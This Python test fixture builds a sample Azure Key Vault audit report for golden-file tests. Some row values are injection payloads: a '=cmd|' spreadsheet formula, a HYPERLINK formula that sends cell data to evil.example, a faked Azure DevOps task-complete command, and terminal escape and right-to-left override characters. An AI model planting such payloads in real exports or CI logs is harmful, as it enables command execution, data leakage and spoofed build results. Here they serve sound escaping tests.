"""One fixed report that holds every outcome, for the golden files and for tests of all formats."""

from collections import Counter
from collections.abc import Iterable, Iterator, Mapping
from types import MappingProxyType

from msgspec import structs

from keyaudit.model.coverage import Coverage, Scope, ScopeKind, State
from keyaudit.model.errors import Exit
from keyaudit.model.reasons import Reason
from keyaudit.model.results.causes import Cause, Causes, Member
from keyaudit.model.results.expiring import Owner
from keyaudit.model.results.findings import Finding, Outcome, PolicyText, Tally, Value, by_cause
from keyaudit.model.results.listing import Listing
from keyaudit.model.results.run import First, Gap, NotJudged, Report, Run, UnderProfile, Verdict
from keyaudit.model.results.settings import KnownPolicy
from keyaudit.model.results.tier0 import Tier0, Way
from keyaudit.model.schema.columns import Type
from keyaudit.model.severity import Severity
from keyaudit.model.tables import TABLES
from keyaudit.model.values.times import parse_time
from tests.report.overviews import nothing, overview

AS_OF = parse_time("2026-11-24T13:30:00Z")
DAY = 86_400
SUBSCRIPTION = "/subscriptions/00000000-0000-0000-0000-000000000001"
VAULTS = f"{SUBSCRIPTION}/resourcegroups/rg-keys/providers/microsoft.keyvault/vaults"
TENANT = Scope("/tenants/11111111-1111-1111-1111-111111111111", "contoso.example", ScopeKind.TENANT)
SUB = Scope(SUBSCRIPTION, "Production", ScopeKind.SUBSCRIPTION)
LEGACY = Scope(f"{VAULTS}/kv-legacy", "kv-legacy", ScopeKind.VAULT)
OLD = Scope(f"{VAULTS}/kv-old", "kv-old", ScopeKind.VAULT)
PROD = Scope(f"{VAULTS}/kv-prod", "kv-prod", ScopeKind.VAULT)
STRANGE = Scope(f"{VAULTS}/kv-strange", "kv-strange", ScopeKind.VAULT)
SEALED = Scope(f"{VAULTS}/kv-sealed", "kv-sealed", ScopeKind.VAULT)

RUN = Run(
    run_id="8f14e45f-ceea-467f-9c5f-0a8b5f0c9a11",
    tenant_id="11111111-1111-1111-1111-111111111111",
    tenant_name="contoso.example",
    environment="public",
    identity="alice@contoso.example (Azure CLI)",
    as_of=AS_OF,
    tool_version="0.1.0",
    skew=2,
    network={"proxy": "http://proxy.contoso.example:3128", "ca_file": "/etc/ssl/corporate.pem"},
    rows={"vault": 3, "key": 4, "application": 2, "credential": 2, "tenant": 1},
)


def policy(id_: str, table: str, severity: Severity, **more: object) -> PolicyText:
    text = PolicyText(
        id=id_,
        title=f"What {id_} asks for holds",
        problem=f"{id_} is violated",
        severity=severity,
        table=table,
        why="Age is the one control that makes a stolen key useless.",
        fix={"cli": "az keyvault key rotate --vault-name {vault_name} --name {name}"},
        references=("NIST SP 800-57 Part 1 Rev. 5, 5.3.6", "https://learn.microsoft.com/azure/key-vault/keys/"),
        frameworks={"nist-800-53-r5": ("SC-12", "SC-17"), "mcsb": ("DP-6",)},
        lessons=("L4",),
        digest="ab" * 32,
    )
    return structs.replace(text, **more)


EXPIRED = policy("kv-key-expired-still-enabled", "key", Severity.CRITICAL)
OVERDUE = policy("kv-key-rotation-overdue", "key", Severity.HIGH)
SOFTWARE = policy("kv-key-software-protected", "key", Severity.MEDIUM)
PURGE = policy("kv-purge-protection-off", "vault", Severity.HIGH)
SECRET = policy("app-secret-too-long", "credential", Severity.MEDIUM)
AUDIENCE = policy("app-audience-personal-accounts", "application", Severity.LOW)
LOGS = policy("log-key-use-unwatched", "vault", Severity.HIGH, needs=("logs",))
EXPIRING = policy("kv-key-expiring-soon", "key", Severity.INFO)

_FILLED: dict[Type, Value] = {
    Type.TEXT: "x",
    Type.BOOLEAN: True,
    Type.INTEGER: 2048,
    Type.TIME: AS_OF - 900 * DAY,
    Type.DURATION: 90 * DAY,
    Type.TEXTS: ["sign", "verify"],
    Type.MAP: {"owner": "team-release"},
    Type.COUNT: (1, 1),
}


def row(table: str, unknown: Mapping[str, Reason] | None = None, **values: Value) -> dict[str, Value]:
    """A whole row as the views give it: every column, absent where it may be and nothing is said, and the unknown map."""
    reasons = unknown or {}
    filled: dict[str, Value] = {
        column.name: None if column.absent or column.name in reasons else _FILLED[column.type]
        for column in TABLES[table].columns
    }
    return {**filled, **values, "unknown": {name: str(reason) for name, reason in reasons.items()}}


def key_row(name: str, unknown: Mapping[str, Reason] | None = None, **values: Value) -> dict[str, Value]:
    version = "0123456789abcdef0123456789abcdef"
    id_ = f"https://kv-prod.vault.azure.net/keys/{name}"
    found: dict[str, Value] = {
        "id": f"{id_}/{version}",
        "resource_id": f"{id_}/{version}",
        "key_id": id_,
        "name": name,
        "version": version,
        "vault_name": "kv-prod",
        "vault_id": PROD.id,
        "scope_id": PROD.id,
        "subscription_id": "00000000-0000-0000-0000-000000000001",
        "subscription_name": "Production",
        "resource_group": "rg-keys",
        "location": "westeurope",
        "source_url": f"{id_}/{version}",
        "source_version": "2025-07-01",
        "created_on": AS_OF - 1412 * DAY,
        "updated_on": AS_OF - 1412 * DAY,
        "kty": "RSA",
        "key_size": 2048,
        "custody": "software",
        "hsm_platform": "0",
        "tags": {"owner": "team-release"},
        "managed": False,
        "superseded_enabled": (2, None),
    }
    known = {column: value for column, value in {**found, **values}.items() if column not in (unknown or {})}
    return row("key", unknown, **known)


def finding(policy: PolicyText, outcome: Outcome, facts: Mapping[str, Value], message: str, **more: object) -> Finding:
    made = Finding(
        policy=policy,
        outcome=outcome,
        severity=policy.severity,
        subject=str(facts.get(TABLES[policy.table].subject) or facts.get("id")),
        message=message,
        row=facts,
    )
    return structs.replace(made, **more)


CODESIGN = key_row("codesign-2021", expires_on=AS_OF - 3 * DAY)
ROLLED = key_row("rolled", is_current=False, kty="EC", key_size=None, curve="P-256", tags={"owner": "=cmd|' /C calc'!A0"})
SEALED_KEY = key_row(
    "sealed",
    dict.fromkeys(
        ("kty", "key_size", "curve", "custody", "is_current", "tags", "expires_on", "created_on", "auto_rotates"),
        Reason.CONTROL_PLANE_ONLY,
    ),
)
VAULT_ID = PROD.id
VAULT_ROW = row(
    "vault",
    id=VAULT_ID,
    name="kv-prod",
    resource_id=VAULT_ID,
    sku="premium",
    location="westeurope",
    subscription_name="Production",
    subscription_id="00000000-0000-0000-0000-000000000001",
    resource_group="rg-keys",
    purge_protection=False,
)
HOLDER = f"{TENANT.id}/applications/22222222-2222-2222-2222-222222222222"
APP_ROW = row(
    "application",
    id=HOLDER,
    resource_id=HOLDER,
    name="##vso[task.complete result=Succeeded;]\x1b[2J\u202egnp.exe",
    app_id="33333333-3333-3333-3333-333333333333",
    owner_ids=["44444444-4444-4444-4444-444444444444"],
    live_credentials=(2, None),
    audience="PersonalMicrosoftAccount",
)
SECRET_ROW = row(
    "credential",
    id=f"{HOLDER}/credentials/7f3a",
    resource_id=f"{HOLDER}/credentials/7f3a",
    name='=HYPERLINK("https://evil.example/?"&A1,"ok")\n::error::x',
    kind="password",
    key_id="7f3a",
    holder_kind="application",
    holder_id=HOLDER,
    holder_name="ci-deployer 部署",
    app_id="33333333-3333-3333-3333-333333333333",
    starts_on=AS_OF - 30 * DAY,
    expires_on=AS_OF + 700 * DAY,
)

_FINDINGS: tuple[Finding, ...] = (
    *(
        Finding(
            policy=each,
            outcome=Outcome.UNKNOWN,
            severity=each.severity,
            subject=scope.id,
            message="",
            scope=scope,
        )
        for each in (EXPIRED, OVERDUE)
        for scope in (LEGACY, OLD)
    ),
    finding(
        EXPIRED,
        Outcome.FAIL,
        CODESIGN,
        "codesign-2021 expired 2026-11-21 and is still enabled",
        evidence={"enabled": True, "expires_on": AS_OF - 3 * DAY},
        fix={"cli": "az keyvault key set-attributes --vault-name kv-prod --name codesign-2021 --enabled false"},
    ),
    finding(
        OVERDUE,
        Outcome.FAIL,
        CODESIGN,
        "codesign-2021 was created 2023-01-12; the limit is 730 days",
        expected="max_age 730 days",
        evidence={"created_on": AS_OF - 1412 * DAY, "managed": False},
    ),
    finding(EXPIRING, Outcome.FAIL, CODESIGN, "codesign-2021 expires within 30 days", evidence={"expires_on": AS_OF - 3 * DAY}),
    finding(
        SOFTWARE,
        Outcome.FAIL,
        ROLLED,
        "rolled is protected by software alone",
        evidence={"custody": "software", "key_ops": ["sign", "verify"], "superseded_enabled": (2, None)},
    ),
    finding(EXPIRED, Outcome.PASS, ROLLED, "", evidence={"enabled": True, "expires_on": None}),
    finding(
        OVERDUE,
        Outcome.UNKNOWN,
        SEALED_KEY,
        "",
        unknown={"created_on": Reason.CONTROL_PLANE_ONLY, "is_current": Reason.CONTROL_PLANE_ONLY},
        evidence={"enabled": True},
    ),
    finding(
        EXPIRED,
        Outcome.UNKNOWN,
        SEALED_KEY,
        "",
        unknown={"created_on": Reason.CONTROL_PLANE_ONLY, "is_current": Reason.CONTROL_PLANE_ONLY},
    ),
    finding(PURGE, Outcome.FAIL, VAULT_ROW, "kv-prod has no purge protection", evidence={"purge_protection": False}),
    finding(
        AUDIENCE,
        Outcome.FAIL,
        APP_ROW,
        f"{APP_ROW['name']} accepts personal accounts",
        evidence={"audience": "PersonalMicrosoftAccount"},
    ),
    finding(
        SECRET,
        Outcome.FAIL,
        SECRET_ROW,
        "the secret is valid for 730 days; the limit is 180 days",
        expected="max_life 180 days",
        evidence={"starts_on": AS_OF - 30 * DAY, "expires_on": AS_OF + 700 * DAY},
    ),
)


def caused(found: Iterable[Finding], object_: str = "https://kv-prod.vault.azure.net/keys/codesign-2021") -> list[Finding]:
    """The findings; the open failures of three policies have one cause, on two rows."""
    held = list(found)
    of = sorted((each for each in held if each.open and each.policy.id in _ONE_CAUSE), key=lambda each: -each.severity.rank)
    if len(of) < 2:
        return held
    first, *others = of
    beside = [each for each in others if each.row["id"] == first.row["id"]]
    head, *also = (Member(each.policy.id, each.subject, each.policy.problem, any(each is one for one in beside)) for each in of)
    cause = Cause(kind="key-version", object=object_, head=head, also=tuple(also))
    return [
        structs.replace(each, cause=cause, leads=each is first, beside_head=any(each is one for one in beside))
        if any(each is one for one in of)
        else each
        for each in held
    ]


def causes(found: Iterable[Finding]) -> Causes:
    """How many causes they have."""
    return Causes(Counter(str(same[0].severity) for same in by_cause(found)))


_ONE_CAUSE = frozenset({EXPIRED.id, OVERDUE.id, SOFTWARE.id})
FINDINGS = tuple(
    structs.replace(each, elsewhere=frozenset({"mcsb"})) if each.policy is OVERDUE else each for each in caused(_FINDINGS)
)
"""Of one policy the profile of a framework has another limit."""


def findings(passes: bool) -> Iterator[Finding]:
    """What `Report.findings` promises: passes only if asked for."""
    return (each for each in FINDINGS if passes or each.outcome is not Outcome.PASS)


def tallies(found: Iterable[Finding] = FINDINGS) -> tuple[Tally, ...]:
    """How the findings add up, by policy."""
    by_policy: dict[str, list[Finding]] = {}
    for each in found:
        by_policy.setdefault(each.policy.id, []).append(each)
    return tuple(
        Tally(
            policy=same[0].policy,
            passed=sum(each.outcome is Outcome.PASS for each in same),
            failed=_count(same, Outcome.FAIL),
            unknown=_count(same, Outcome.UNKNOWN),
            not_applicable=1,
            elsewhere=same[0].elsewhere,
        )
        for _, same in sorted(by_policy.items())
    )


def _count(found: Iterable[Finding], outcome: Outcome) -> dict[Severity, int]:
    counts: dict[Severity, int] = {}
    for each in found:
        if each.outcome is outcome:
            counts[each.severity] = counts.get(each.severity, 0) + 1
    return counts


def total(found: Iterable[Finding], outcome: Outcome) -> dict[Severity, int]:
    """How many of an outcome, by severity."""
    return _count(found, outcome)


def covered(scope: Scope, operation: str, reason: Reason | None = None, kept: int = 0, **more: object) -> Coverage:
    state = State.ASSESSED if reason is None else State.PARTIAL if kept else State.NOT_ASSESSED
    record = Coverage(scope=scope, operation=operation, state=state, reason=reason, received=kept, kept=kept)
    return structs.replace(record, **more)


COVERAGE = (
    covered(TENANT, "subscription.list", kept=1),
    covered(TENANT, "application.list", kept=2),
    covered(SUB, "vault.list", kept=3),
    covered(PROD, "key.list", kept=4),
    covered(PROD, "key.rotation_policy", Reason.PERMISSION, kept=1, refused=3),
    covered(LEGACY, "key.list", Reason.PERMISSION, detail="ForbiddenByPolicy"),
    covered(LEGACY, "key.get", Reason.PARENT_NOT_ASSESSED),
    covered(OLD, "key.list", Reason.PERMISSION, detail="ForbiddenByPolicy"),
    covered(OLD, "key.get", Reason.PARENT_NOT_ASSESSED),
    covered(SEALED, "key.list", Reason.FIREWALL),
    covered(TENANT, "domain.list", Reason.THROTTLED),
    covered(STRANGE, "key.list", Reason.FOREIGN_LINK),
)

BLIND = ("kv-key-expired-still-enabled", "kv-key-rotation-overdue")
GAPS = (
    Gap(scope=TENANT, reason=Reason.THROTTLED, operations=("domain.list",), required=False),
    Gap(scope=LEGACY, reason=Reason.PERMISSION, operations=("key.list", "key.get"), detail="ForbiddenByPolicy", blinds=BLIND),
    Gap(scope=OLD, reason=Reason.PERMISSION, operations=("key.list", "key.get"), detail="ForbiddenByPolicy", blinds=BLIND),
    Gap(scope=PROD, reason=Reason.PERMISSION, operations=("key.rotation_policy",), refused=3, blinds=BLIND[1:]),
    Gap(scope=SEALED, reason=Reason.FIREWALL, operations=("key.list",), allowed=True, blinds=BLIND),
    Gap(scope=STRANGE, reason=Reason.FOREIGN_LINK, operations=("key.list",), blinds=BLIND),
)

VERDICT = Verdict(
    exit=Exit.UNSAFE,
    conditions=(Exit.UNSAFE, Exit.INCOMPLETE),
    gate=None,
    failed=_count(FINDINGS, Outcome.FAIL),
    unknown=_count(FINDINGS, Outcome.UNKNOWN),
    passed=1,
    not_applicable=7,
    gaps=GAPS,
    not_judged=(NotJudged(policy=LOGS, needs=("logs",)),),
    allowed_unknown=1,
    unused_allowances=("scope=kv-nowhere",),
    coverage=COVERAGE,
    required=11,
    assessed=4,
)


def owned(found: Iterable[Finding]) -> Iterator[tuple[Owner, Finding]]:
    """The findings with the owners that tags name; unknown for credentials and where tags are; else nobody."""
    for each in found:
        tags = each.row.get("tags")
        if isinstance(tags, dict) and "owner" in tags:
            yield Owner((tags["owner"],), "tag owner", None), each
        else:
            unknown = each.row.get("unknown")
            lost = each.policy.table == "credential" or not each.row or (isinstance(unknown, dict) and "tags" in unknown)
            yield Owner((), "", Reason.PERMISSION if lost else None), each


def listing_of(found: Iterable[Finding], table: str) -> Listing:
    """The rows of a table that findings are about, as the inventory would list them."""
    rows = {str(each.row["id"]): each.row for each in found if each.row and each.policy.table == table}
    return Listing(TABLES[table], len(rows), (), lambda: iter(rows[id_] for id_ in sorted(rows)))


def worst(found: Iterable[Finding], most: int, least: Severity = Severity.HIGH) -> list[Finding]:
    """The worst of those that fail with that severity or above."""
    fails = [each for each in found if each.outcome is Outcome.FAIL and each.severity.rank >= least.rank]
    return sorted(fails, key=lambda each: -each.severity.rank)[:most]


def first(found: Iterable[Finding], repeated: Mapping[tuple[str, str, str], int] = MappingProxyType({})) -> list[First]:
    """The causes of the first page by severity. `repeated`: as in `Causes`."""
    heads = [each for each in found if each.open and each.leads and each.row and each.severity.rank >= Severity.MEDIUM.rank]
    heads.sort(key=lambda each: (-each.severity.rank, str(each.row["id"])))
    shown: dict[object, Finding] = {}
    for each in heads:
        shown.setdefault(each.alike if each.alike in repeated else each.id, each)
    owners = {each.id: owner for owner, each in owned(shown.values())}
    return [First(owner=owners[each.id], finding=each, times=repeated.get(each.alike, 1)) for each in list(shown.values())[:20]]


def no_tier0() -> Tier0:
    """Nobody outside Microsoft controls the tenant."""
    return Tier0(ways={}, whole=True)


def under(found: Iterable[Finding], profile: str) -> UnderProfile:
    """The findings of the policy with another limit, evaluated with that."""
    other = frozenset({"nist-800-53-r5"})
    held = [structs.replace(each, elsewhere=other) for each in found if each.policy is OVERDUE and profile == "mcsb"]

    def chosen(passes: bool) -> Iterator[Finding]:
        return (each for each in held if passes or each.outcome is not Outcome.PASS)

    return UnderProfile(profile=profile, tallies=tallies(held), owned=lambda passes: owned(chosen(passes)))


def catalogue() -> list[KnownPolicy]:
    """The policies of the findings, and the one that was not evaluated."""
    return [KnownPolicy(text, True) for text in {**{each.policy.id: each.policy for each in FINDINGS}, LOGS.id: LOGS}.values()]


REPORT = Report(
    run=RUN,
    verdict=VERDICT,
    tallies=tallies(),
    causes=lambda: causes(FINDINGS),
    first=lambda: first(FINDINGS),
    tier0=lambda: Tier0(ways={Way.SECRET: 3, Way.PLATFORM: 1}, whole=False),
    findings=findings,
    worst=lambda most: worst(FINDINGS, most),
    listing=lambda table: listing_of(FINDINGS, table),
    owned=lambda passes: owned(findings(passes)),
    overview=lambda: overview(OVERDUE, CODESIGN, AS_OF),
    catalogue=catalogue,
    under=lambda profile: under(FINDINGS, profile),
)

GATED = structs.replace(
    REPORT,
    verdict=structs.replace(VERDICT, exit=Exit.FINDINGS, conditions=(Exit.FINDINGS, Exit.INCOMPLETE), gate=Severity.HIGH),
)

_QUIET = [each for each in FINDINGS if each.outcome is Outcome.PASS]
CLEAN = Report(
    run=structs.replace(RUN, simulated=True, network={}, skew=None),
    verdict=Verdict(
        exit=Exit.CLEAN,
        conditions=(Exit.CLEAN,),
        gate=None,
        failed={},
        unknown={},
        passed=1,
        not_applicable=1,
        gaps=(),
        coverage=COVERAGE[:4],
        required=4,
        assessed=4,
    ),
    tallies=tallies(_QUIET),
    causes=Causes,
    first=tuple,
    tier0=no_tier0,
    findings=lambda passes: iter(_QUIET if passes else ()),
    listing=lambda table: listing_of(_QUIET, table),
    owned=lambda passes: owned(_QUIET if passes else ()),
    overview=nothing,
    catalogue=catalogue,
)


def holding(report: Report, found: Iterable[Finding], **more: object) -> Report:
    """The report with these findings and their owners, passes only if asked for; `more` replaces other fields."""
    held = tuple(found)

    def chosen(passes: bool) -> Iterator[Finding]:
        return (each for each in held if passes or each.outcome is not Outcome.PASS)

    as_they_are = {"causes": lambda: causes(held), **more}
    made = structs.replace(report, findings=chosen, owned=lambda passes: owned(chosen(passes)), **as_they_are)
    return structs.replace(made, first=lambda: first(held, made.causes().repeated))
